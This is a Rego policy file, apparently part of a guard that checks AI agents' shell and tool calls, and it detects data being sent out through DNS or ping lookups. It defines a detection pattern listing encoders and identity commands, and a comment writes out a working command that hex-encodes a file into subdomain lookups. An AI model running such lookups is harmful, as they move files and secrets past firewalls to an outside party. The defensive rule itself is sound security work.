# METADATA
# title: Data in names that are looked up
# description: >-
#   Asking name servers, or pinging, for names that are made of files or encoded data. The question reaches whoever owns the name,
#   past every firewall.
# custom:
#   id: exfil.lookup
#   severity: high
#   events: [tool.before, permission.request]
#   tools: [shell, mcp]
#   docs: docs/rules/exfil/lookup.md
#   limits:
#     - "A name in a variable that was filled by an earlier call is not seen."
package hookguard.rules.exfil.lookup

import data.hookguard.lib.flow
import data.hookguard.lib.network
import data.hookguard.lib.path
import data.hookguard.lib.shell

# Names that are looked up carry what they are made of to the name's owner.
deny contains {
	"reason": "This puts data into a name that is looked up, which sends it away.",
	"fix": "Look up the plain name.",
	"evidence": c.text,
} if {
	some j in shell.places(askers)
	c := shell.commands[j]
	null in c.argv
	some i in flow.within(j)
	gives_contents(i)
}

# `for l in $(xxd -p f); do dig $l.example.com; done`
ask contains {
	"reason": "This looks up names made of encoded data, which sends it away.",
	"fix": "Look up the plain name.",
	"evidence": c.text,
} if {
	some c in shell.of(network.name_clients)
	shell.unknown_operand(c)
	count(shell.places(encoders)) > 0
}

gives_contents(i) if shell.commands[i].program in tellers

gives_contents(i) if {
	some p in path.read
	p.command == i
}

askers := network.name_clients | {"ping", "ping6"}

tellers := encoders | {"whoami", "id", "env", "printenv"}

encoders := {"base32", "base64", "basenc", "gzip", "hexdump", "od", "openssl", "xxd"}
